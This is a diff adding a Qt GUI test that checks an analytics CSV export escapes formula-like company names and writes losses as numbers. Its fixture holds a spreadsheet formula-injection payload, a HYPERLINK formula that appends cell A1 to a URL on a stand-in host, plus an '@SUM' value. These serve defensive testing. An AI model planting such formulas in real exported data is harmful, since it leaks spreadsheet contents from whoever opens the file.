@@ -204,6 +204,22 @@ def test_analytics_by_company_chart_and_csv(qtbot, fctx, desk, fake, tmp_path):
     assert "status: pending" in {f"{r.group}: {r.name}" for r in view.tables["summary"].rows}
 
 
+def test_analytics_export_writes_a_formula_name_as_text_and_a_loss_as_a_number(qtbot, fctx, desk, tmp_path):
+    evil = desk.companies.create('=HYPERLINK("http://x/?"&A1,"click")', invoice_multiplier="0.5")
+    desk.orders.create_manual(evil.id, "@SUM(A1)", "https://tiktok.com/@evil", 1000, "25", network="TikTok")
+    tab = open_tab(qtbot, fctx)
+    click_view(qtbot, tab, "Analytics")
+    view = tab.analytics
+    qtbot.waitUntil(lambda: view.tables["companies"].row_count() == 1, timeout=5000)
+    target = tmp_path / "companies.csv"
+    view.ask_save_path = lambda *_a: str(target)
+    click(qtbot, view.export_button)
+    qtbot.waitUntil(lambda: target.exists() and target.read_text().count("\n") == 2, timeout=5000)
+    rows = {r["companyId"]: r for r in csv.DictReader(target.read_text(encoding="utf-8").splitlines())}
+    assert rows[str(evil.id)]["name"] == "'" + evil.name
+    assert rows[str(evil.id)]["profit"] == "-12.50"  # a loss stays a number a spreadsheet sums
+
+
 def test_unconfirmed_order_stands_out_and_is_reconciled(qtbot, fctx, desk, fake, answers):
     acme = desk.companies.list()[0]
     desk.fampage.refresh_services()
